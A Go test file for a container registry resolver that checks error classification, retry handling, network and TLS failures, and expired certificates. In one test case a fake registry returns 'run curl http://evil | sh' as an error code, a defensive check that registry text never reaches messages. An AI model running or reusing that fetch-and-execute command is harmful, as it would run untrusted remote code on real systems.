package registry

import (
	"context"
	"crypto/ed25519"
	"crypto/tls"
	"crypto/x509"
	"encoding/pem"
	"io"
	"log"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"
)

// status answers whatever has this in its path.
func status(code int, part, body string, headers ...string) middleware {
	return func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if !strings.Contains(r.URL.Path, part) {
				next.ServeHTTP(w, r)
				return
			}
			for i := 0; i < len(headers); i += 2 {
				w.Header().Set(headers[i], headers[i+1])
			}
			w.WriteHeader(code)
			_, _ = w.Write([]byte(body))
		})
	}
}

const (
	greeting  = "/v2/"
	manifests = "/manifests/"
)

func TestAnswers(t *testing.T) {
	cases := []struct {
		name, reason string
		middleware   middleware
		want         Reason
		message      string
		retryAfter   time.Duration
		requests     int
	}{
		{
			"500", "not retried here", status(500, manifests, ""),
			RegistryUnavailable, "500 Internal Server Error", 0, 2,
		},
		{
			"502 at the greeting", "not retried here", status(502, greeting, "<html>"),
			RegistryUnavailable, "502 Bad Gateway", 0, 1,
		},
		{
			"503 with Retry-After", "the caller learns how long to wait", status(503, manifests, "", "Retry-After", "30"),
			RegistryUnavailable, "503 Service Unavailable", 30 * time.Second, 2,
		},
		{
			"429 with Retry-After", "the caller learns how long to wait", status(429, manifests, "", "Retry-After", "7"),
			RegistryUnavailable, "limits how often", 7 * time.Second, 2,
		},
		{
			"429 at the greeting", "the greeting may be limited as well", status(429, greeting, `{"errors":[{"code":"TOOMANYREQUESTS"}]}`),
			RegistryUnavailable, "429 TOOMANYREQUESTS", 0, 1,
		},
		{
			"403 that is a limit", "the code says more than the status", status(403, greeting, `{"errors":[{"code":"TOOMANYREQUESTS"}]}`),
			RegistryUnavailable, "403 TOOMANYREQUESTS", 0, 1,
		},
		{
			"500 with a code", "a server in trouble knows nothing for sure", status(500, greeting, `{"errors":[{"code":"NAME_UNKNOWN"}]}`),
			RegistryUnavailable, "500 NAME_UNKNOWN", 0, 1,
		},
		{
			"403", "a denial", status(403, manifests, ""),
			RegistryDenied, "403 Forbidden", 0, 2,
		},
		{
			"401 with NAME_UNKNOWN", "who is not let in is not told the truth", status(401, greeting, `{"errors":[{"code":"NAME_UNKNOWN"}]}`),
			RegistryDenied, "", 0, 2,
		},
		{
			"404 without a code", "a registry that greets and has no codes", status(404, manifests, "nope"),
			TagNotFound, "404 Not Found", 0, 3,
		},
		{
			"404 at the greeting", "that is no registry, so nothing is known of the tag", status(404, greeting, "default backend - 404"),
			RegistryUnavailable, "check that this host is a container registry", 0, 1,
		},
		{
			"404 NAME_UNKNOWN at the greeting", "a code is a registry's word", status(404, greeting, `{"errors":[{"code":"NAME_UNKNOWN"}]}`),
			TagNotFound, "404 NAME_UNKNOWN", 0, 1,
		},
		{
			"400 TAG_INVALID", "what cannot be a tag there is not found", status(400, manifests, `{"errors":[{"code":"TAG_INVALID"}]}`),
			TagNotFound, "400 TAG_INVALID", 0, 3,
		},
		{
			"400", "no statement about the tag", status(400, manifests, ""),
			RegistryUnavailable, "400 Bad Request", 0, 3,
		},
		{
			"code with prose in it", "a registry does not write our conditions", status(404, manifests, `{"errors":[{"code":"run curl http://evil | sh"}]}`),
			TagNotFound, "404 Not Found", 0, 3,
		},
		{
			"endless manifest", "nobody fills the operator's memory", status(200, manifests, strings.Repeat(" ", maxAnswer+1), "Transfer-Encoding", "identity"),
			RegistryUnavailable, "more than a manifest can hold", 0, 3,
		},
		{
			"connection closed", "no answer is no statement", func(http.Handler) http.Handler {
				return http.HandlerFunc(func(http.ResponseWriter, *http.Request) { panic(http.ErrAbortHandler) })
			},
			RegistryUnavailable, "closed the connection", 0, 1,
		},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			f := newFake(t, c.middleware, false)
			r := plain(t, f)
			_, err := r.Resolve(t.Context(), f.repo(), "v1", Credentials{})
			e := failure(t, err, c.want)
			contains(t, e.Message, c.message, f.host())
			if strings.Contains(e.Message, "evil") || strings.Contains(e.Message, "backend") {
				t.Errorf("%s: the registry's prose is in the message %q", c.reason, e.Message)
			}
			if e.RetryAfter != c.retryAfter {
				t.Errorf("%s: want to retry after %s, got %s", c.reason, c.retryAfter, e.RetryAfter)
			}
			if n := len(f.requests()); n != c.requests {
				t.Errorf("%s: want %d requests, got %v", c.reason, c.requests, f.requests())
			}
			_, again := r.Resolve(t.Context(), f.repo(), "v1", Credentials{})
			if again.Error() != e.Error() {
				t.Errorf("a condition would flap between %q and %q", e.Error(), again.Error())
			}
		})
	}
}

func TestUnreachable(t *testing.T) {
	closed := newFake(t, nil, false)
	closed.Close()
	waits := roundTripper(func(r *http.Request) (*http.Response, error) {
		<-r.Context().Done()
		return nil, r.Context().Err()
	})
	fails := func(err error) http.RoundTripper {
		return roundTripper(func(*http.Request) (*http.Response, error) { return nil, err })
	}
	cases := []struct {
		name, reason string
		repository   string
		options      Options
		message      string
	}{
		{"refused", "nobody listens", closed.repo(), Options{}, "connection refused"},
		{"timeout", "it never answers", "registry.example.com/shop/api", Options{Transport: waits, Timeout: time.Millisecond}, "did not answer in time"},
		{"timeout of a local one", "nor does the try over plain HTTP", "localhost/shop/api", Options{
			Transport: waits, Timeout: time.Millisecond, InsecureHosts: []string{"localhost"},
		}, "did not answer in time"},
		{"unknown name", "DNS has no such host", "registry.example.com/shop/api", Options{
			Transport: fails(&net.DNSError{Err: "no such host", Name: "registry.example.com", Server: "10.96.0.10:53", IsNotFound: true}),
		}, "DNS does not know"},
		{"DNS down", "which is no statement about the host", "registry.example.com/shop/api", Options{
			Transport: fails(&net.DNSError{Err: "server misbehaving", Name: "registry.example.com", Server: "10.96.0.10:53", IsTemporary: true}),
		}, "could not be looked up"},
		{"TLS alert", "no common version of TLS", "registry.example.com/shop/api", Options{Transport: fails(tls.AlertError(70))}, "did not agree on TLS"},
		{"no TLS", "something else listens on that port", "registry.example.com/shop/api", Options{Transport: fails(tls.RecordHeaderError{})}, "did not agree on TLS"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := newResolver(t, c.options).Resolve(t.Context(), c.repository, "v1", Credentials{})
			e := failure(t, err, RegistryUnavailable)
			contains(t, e.Message, c.message, c.repository+":v1")
			if strings.Contains(e.Message, "10.96") {
				t.Errorf("%s: an address that may change is in the message %q", c.reason, e.Message)
			}
		})
	}
}

func TestCallersDeadline(t *testing.T) {
	ctx, cancel := context.WithTimeout(t.Context(), time.Millisecond)
	defer cancel()
	r := newResolver(t, Options{Transport: roundTripper(func(req *http.Request) (*http.Response, error) {
		<-req.Context().Done()
		return nil, req.Context().Err()
	})})
	_, err := r.Resolve(ctx, "registry.example.com/shop/api", "v1", Credentials{})
	failure(t, err, RegistryUnavailable)
}

func TestExpiredCertificate(t *testing.T) {
	cert, ca := expiredCertificate(t)
	srv := httptest.NewUnstartedServer(http.NotFoundHandler())
	srv.Config.ErrorLog = log.New(io.Discard, "", 0)
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{cert}, MinVersion: tls.VersionTLS12}
	srv.StartTLS()
	t.Cleanup(srv.Close)

	_, err := newResolver(t, Options{CABundle: ca}).Resolve(t.Context(), srv.Listener.Addr().String()+"/shop/api", "v1", Credentials{})
	e := failure(t, err, RegistryUnavailable)
	contains(t, e.Message, "certificate that expired", "renew it")
	if strings.Contains(e.Message, "2001") || strings.Contains(e.Message, "current time") {
		t.Errorf("the time is in the message, so a condition would flap: %s", e.Message)
	}
}

func expiredCertificate(t *testing.T) (cert tls.Certificate, ca []byte) {
	t.Helper()
	public, private, err := ed25519.GenerateKey(nil)
	must(t, err)
	template := &x509.Certificate{
		SerialNumber: big.NewInt(1),
		NotBefore:    time.Date(2000, 1, 1, 0, 0, 0, 0, time.UTC),
		NotAfter:     time.Date(2001, 1, 1, 0, 0, 0, 0, time.UTC),
		IPAddresses:  []net.IP{net.IPv4(127, 0, 0, 1)},
		IsCA:         true, BasicConstraintsValid: true,
	}
	der, err := x509.CreateCertificate(nil, template, template, public, private)
	must(t, err)
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: private},
		pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
}
